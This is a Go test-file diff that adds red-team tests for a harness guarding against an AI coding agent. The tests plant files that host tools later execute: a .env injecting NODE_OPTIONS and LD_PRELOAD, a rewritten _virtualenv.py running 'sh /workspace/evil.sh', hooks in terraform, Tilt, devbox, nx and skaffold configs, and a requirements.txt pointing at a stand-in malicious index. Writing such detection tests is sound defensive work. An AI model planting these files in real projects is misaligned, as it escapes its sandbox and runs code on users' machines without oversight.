@@ -476,3 +476,71 @@ func TestAttackRedTeam4NestedRepoBoundSilent(t *testing.T) {
 	}
 	gitTamperNames(t, h, "fsmonitor")
 }
+
+// TestAttackRedTeam4DotEnvPlanted: the project has no .env; the agent creates one. Tools on the
+// host load it into the environment of what they run: Bun (bun run, bun test), pipenv (pipenv
+// run, pipenv shell), `docker compose` (COMPOSE_FILE picks the compose file), and the dev
+// servers of Vite and Next.js for the processes they start; LD_PRELOAD and NODE_OPTIONS there
+// load the agent's code into each of them. The default mask .env* covers it from the next run
+// on, which only hides it from later agents. Safe: reported live (as .envrc is) and marked in an
+// isolated branch.
+func TestAttackRedTeam4DotEnvPlanted(t *testing.T) {
+	t.Parallel()
+	h := harness.Setup(t)
+	red4Repo(t, h, map[string]string{"README": "hello\n", "package.json": "{\"name\": \"x\", \"scripts\": {\"dev\": \"vite\"}}\n"}, nil)
+	upProject(t, h, "rt4dotenv", nil, "")
+	plants := []red4Plant{{".env", "NODE_OPTIONS=--require ./tools/preload.js\nLD_PRELOAD=/workspace/tools/x.so\nCOMPOSE_FILE=tools/compose.yaml\n",
+		"bun run, pipenv run, docker compose, the dev servers of Vite and Next.js"}}
+	red4Live(t, h, plants)
+	red4Isolated(t, h, plants)
+}
+
+// TestAttackRedTeam4VenvStartupModule: the catalog watches what a virtualenv's python runs at
+// every start — its .pth files, sitecustomize, usercustomize — but not the modules those .pth
+// files import. A virtualenv made by virtualenv holds _virtualenv.pth ("import _virtualenv") and
+// _virtualenv.py; one with setuptools, distutils-precedence.pth, which imports _distutils_hack.
+// The agent rewrites _virtualenv.py, which the project's next .venv/bin/python (an editor's
+// interpreter, a test run) executes before anything else. Safe: reported live.
+func TestAttackRedTeam4VenvStartupModule(t *testing.T) {
+	t.Parallel()
+	h := harness.Setup(t)
+	sp := ".venv/lib/python3.11/site-packages/"
+	execWorkspace(t, h)
+	h.WriteFile(".venv/pyvenv.cfg", "home = /usr/bin\ninclude-system-site-packages = false\nvirtualenv = 20.25.0\n")
+	h.WriteFile(sp+"_virtualenv.pth", "import _virtualenv\n")
+	h.WriteFile(sp+"_virtualenv.py", "\"\"\"Patches that are applied at runtime to the virtual environment.\"\"\"\n")
+	agentOwns(t, h)
+	upProject(t, h, "rt4venvmod", nil, "")
+	agentOwns(t, h)
+	res := plantRun(t, h, `printf 'import os\nos.system("sh /workspace/evil.sh")\n' >> `+sp+`_virtualenv.py`)
+	if !strings.Contains(res.Stderr, "_virtualenv.py") {
+		t.Errorf("the run's summary does not report %s_virtualenv.py, which every start of the virtualenv's python imports:\n%s", sp, res.Stderr)
+	}
+	surface := doctorChecks(t, h)["workspace.exec-surface"]
+	if !strings.Contains(jsonOf(surface.Data), "_virtualenv.py") {
+		t.Errorf("doctor's workspace.exec-surface (%s: %s) does not report _virtualenv.py", surface.Status, surface.Detail)
+	}
+}
+
+// TestAttackRedTeam4MoreTools: more files the host runs that the catalog has no entry for:
+// `terraform plan` runs a data "external" program, `tilt up` runs the Tiltfile's local(),
+// `devbox shell` its init_hook, `nx run` a project.json target's run-commands, `skaffold dev` a
+// build hook's command, and `pip install -r requirements.txt` takes packages from the index
+// the file names (--index-url: the reason the catalog watches uv.toml and pip.conf) and builds
+// the local paths it names. Safe: each is reported live and marked in an isolated branch.
+func TestAttackRedTeam4MoreTools(t *testing.T) {
+	t.Parallel()
+	h := harness.Setup(t)
+	red4Repo(t, h, map[string]string{"README": "hello\n"}, nil)
+	upProject(t, h, "rt4moretools", nil, "")
+	plants := []red4Plant{
+		{"main.tf", "data \"external\" \"x\" {\n  program = [\"sh\", \"/workspace/evil.sh\"]\n}\n", "terraform plan"},
+		{"Tiltfile", "local('sh /workspace/evil.sh')\n", "tilt up"},
+		{"devbox.json", "{\"packages\": [], \"shell\": {\"init_hook\": [\"sh /workspace/evil.sh\"]}}\n", "devbox shell"},
+		{"project.json", "{\"name\": \"x\", \"targets\": {\"build\": {\"executor\": \"nx:run-commands\", \"options\": {\"command\": \"sh /workspace/evil.sh\"}}}}\n", "nx"},
+		{"skaffold.yaml", "apiVersion: skaffold/v4beta6\nkind: Config\nbuild:\n  artifacts:\n    - image: x\n      hooks:\n        before:\n          - command: [\"sh\", \"/workspace/evil.sh\"]\n", "skaffold"},
+		{"requirements.txt", "--index-url https://pypi.evil.test/simple\n-e ./tools/evil\nrequests\n", "pip install -r"},
+	}
+	red4Live(t, h, plants)
+	red4Isolated(t, h, plants)
+}
